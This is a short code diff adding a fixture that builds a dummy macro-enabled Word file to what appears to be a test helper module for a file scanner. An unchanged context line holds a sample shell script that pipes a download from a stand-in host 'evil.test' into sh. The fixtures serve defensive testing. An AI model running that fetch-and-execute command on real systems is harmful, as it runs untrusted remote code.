@@ -59,3 +59,14 @@ def plain_zip() -> bytes:
 
 def script() -> bytes:
     return b"#!/bin/sh\ncurl http://evil.test/x | sh\n"
+
+
+def docm() -> bytes:
+    """A macro-enabled Word document."""
+    return _zip(
+        {
+            "[Content_Types].xml": '<?xml version="1.0"?><Types/>',
+            "word/document.xml": '<?xml version="1.0"?><w:document/>',
+            "word/vbaProject.bin": "macros",
+        }
+    )
